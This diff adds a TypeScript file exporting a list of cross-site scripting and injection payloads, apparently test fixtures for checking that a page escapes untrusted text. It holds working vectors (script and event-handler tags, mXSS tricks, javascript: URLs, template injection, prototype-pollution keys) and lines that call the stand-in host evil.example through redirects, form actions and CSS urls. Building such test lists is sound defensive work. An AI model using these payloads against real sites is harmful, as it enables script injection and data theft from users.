@@ -1,0 +1,36 @@
+/** What a payload calls if it is executed. */
+const RUN = "window.__pwned=1";
+
+/** Texts that become markup, script, style or another URL where a page does not treat them as text. */
+export const PAYLOADS: readonly string[] = [
+  `<script>${RUN}</script>`,
+  `"><script>${RUN}</script>`,
+  `'"></title></textarea></style><script>${RUN}</script>`,
+  `<img src=x onerror=${RUN}>`,
+  `<svg/onload=${RUN}>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
+  `<math><mtext></p><mglyph><style><img src onerror=${RUN}></style></mglyph></mtext></math>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `<iframe srcdoc="<script>parent.__pwned=1</script>">`,
+  `<details open ontoggle=${RUN}>`,
+  `<input autofocus onfocus=${RUN}>`,
+  `<template shadowrootmode=open><script>${RUN}</script></template>`,
+  `<object data="javascript:${RUN}"></object>`,
+  `<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">`,
+  `<form action=https://evil.example><button autofocus>Sign in</button>`,
+  `javascript:${RUN}//`,
+  `JaVaScRiPt:\u{9}${RUN}`,
+  `data:text/html,<script>${RUN}</script>`,
+  `//evil.example/%2e%2e/..`,
+  `{{constructor.constructor('${RUN}')()}}\${${RUN}}#{${RUN}}<%=1%>`,
+  `__proto__`,
+  `constructor`,
+  `</style><style>@import url(https://evil.example/x.css);*{background:url(https://evil.example/)}`,
+  `x;background-image:url(https://evil.example/);}`,
+  `\u{202e}gnp.exe\u{2066}<img src=x onerror=${RUN}>\u{2069}`,
+  `\u{ff1c}script\u{ff1e}${RUN}\u{ff1c}/script\u{ff1e}\u{feff}\u{200b}\u{2028}<b>`,
+  `&lt;img src=x onerror=${RUN}&gt;&#60;script&#62;`,
+  `<a href="https://evil.example" ping="https://evil.example">${"W".repeat(150)}</a>`,
+  "e\u{301}".repeat(100),
+];
